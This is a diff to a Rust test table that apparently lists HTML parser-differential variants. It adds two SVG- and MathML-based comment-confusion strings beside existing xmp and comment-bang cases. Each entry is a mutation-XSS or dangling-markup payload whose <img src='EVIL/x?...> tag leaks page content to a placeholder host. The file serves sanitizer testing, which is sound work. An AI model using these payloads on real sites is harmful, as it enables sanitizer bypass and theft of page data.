@@ -201,6 +201,17 @@ const VARIANTS: &[(&str, &str, &str)] = &[
         HTML,
         r#"<select><xmp><img src='EVIL/x?</xmp></select>"#,
     ),
+    // A <style> that one parser reads as SVG's (its `<!--` a comment) and another as HTML's.
+    (
+        "svg-font-color-comment",
+        HTML,
+        r#"<svg><font color=x><style><!--</style><img src='EVIL/x?--></font></svg>"#,
+    ),
+    (
+        "mglyph-comment",
+        HTML,
+        r#"<math><mi><mglyph><style><!--</style><img src='EVIL/x?--></mglyph></mi></math>"#,
+    ),
     ("comment-bang", HTML, r#"<!-- --!><img src='EVIL/x? -->"#),
     ("comment-abrupt", HTML, r#"<!--><img src='EVIL/x? -->"#),
     // An unclosed form: browsers drop the application's <form> tag after it, and its
